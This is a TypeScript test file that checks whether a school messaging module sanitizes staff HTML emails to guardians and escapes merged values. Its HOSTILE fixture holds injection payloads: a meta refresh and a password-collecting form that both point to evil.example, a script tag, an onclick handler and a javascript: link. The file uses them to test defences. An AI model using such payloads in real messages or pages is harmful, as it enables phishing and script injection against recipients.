import { GuardianSchema, HouseholdSchema } from '@ecole/core'
import { createMemoryStorage } from '@ecole/storage-memory'
import { describe, expect, it } from 'vitest'
import { previewGroupMessage, queueFamilyMessage, queueGroupMessage } from './group-message'
import type { MailPayload } from './mail-outbox'

const FROM = '"École" <no-reply@ecole.example>'
const s = 's1'

async function family() {
  const storage = createMemoryStorage()
  await storage.directory!.putDirectoryRecord(s, 'household', HouseholdSchema.parse({ id: 'h1', siteId: s, name: 'Famille Dupont' }))
  await storage.directory!.putDirectoryRecord(s, 'guardian', GuardianSchema.parse({ id: 'marie', siteId: s, householdId: 'h1', firstName: 'Marie', lastName: "Dupont <b>&'", email: 'marie@example.fr' }))
  return storage
}
const queued = async (storage: ReturnType<typeof createMemoryStorage>, id: string) => (await storage.outbox!.list(s, {})).items.find((m) => m.id === id)!.payload as MailPayload

const HOSTILE = '<p>Bonjour {{guardian.firstName}}</p><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="password"></form><script>alert(1)</script><p style="display:none" onclick="x()">caché</p><a href="javascript:alert(1)">lien</a>'

describe('a staff HTML message is queued sanitized', () => {
  it('queues a family message without the meta refresh, the form to another host, the script, the style and the event handler', async () => {
    const storage = await family()
    await queueFamilyMessage({ storage }, { siteId: s, id: 'm1', householdId: 'h1', date: '2026-10-05', template: { subject: 'Info', body: HOSTILE, format: 'html' }, sender: { from: FROM } })
    const mail = await queued(storage, 'm1:marie')
    expect(mail.html).toBe('<p>Bonjour Marie</p><p>caché</p><a>lien</a>')
    expect(mail.text).toBe('Bonjour Marie\n\ncaché\n\nlien')
  })

  it('keeps the values merged into a group message as text, escaped', async () => {
    const storage = await family()
    await queueGroupMessage({ storage }, { siteId: s, id: 'm2', filter: { source: 'guardians', date: '2026-10-05', householdIds: ['h1'] }, template: { subject: 'Info', body: '<p>{{guardian.lastName}}</p>', format: 'html' }, sender: { from: FROM } })
    expect((await queued(storage, 'm2:marie')).html).toBe('<p>Dupont &lt;b&gt;&amp;&#39;</p>')
  })

  it('queues a plain-text message as written', async () => {
    const storage = await family()
    await queueFamilyMessage({ storage }, { siteId: s, id: 'm3', householdId: 'h1', date: '2026-10-05', template: { subject: 'Info', body: '<script>1 < 2</script>', format: 'text' }, sender: { from: FROM } })
    expect((await queued(storage, 'm3:marie')).text).toBe('<script>1 < 2</script>')
  })

  it('previews an HTML message as it will be queued, saying when sanitizing took something out; a plain-text one as written', async () => {
    const storage = await family()
    const filter = { source: 'guardians' as const, date: '2026-10-05' as const, householdIds: ['h1'] }
    const hostile = await previewGroupMessage({ storage }, { siteId: s, filter, template: { subject: 'Info', body: HOSTILE, format: 'html' } })
    expect(hostile.messages.map((m) => [m.body, m.sanitized])).toEqual([['<p>Bonjour Marie</p><p>caché</p><a>lien</a>', true]])
    const clean = await previewGroupMessage({ storage }, { siteId: s, filter, template: { subject: 'Info', body: '<p>Bonjour {{guardian.firstName}}</p>', format: 'html' } })
    expect(clean.messages.map((m) => [m.body, m.sanitized])).toEqual([['<p>Bonjour Marie</p>', false]])
    const text = await previewGroupMessage({ storage }, { siteId: s, filter, template: { subject: 'Info', body: '<script>1 < 2</script>', format: 'text' } })
    expect(text.messages.map((m) => [m.body, m.sanitized])).toEqual([['<script>1 < 2</script>', false]])
  })
})
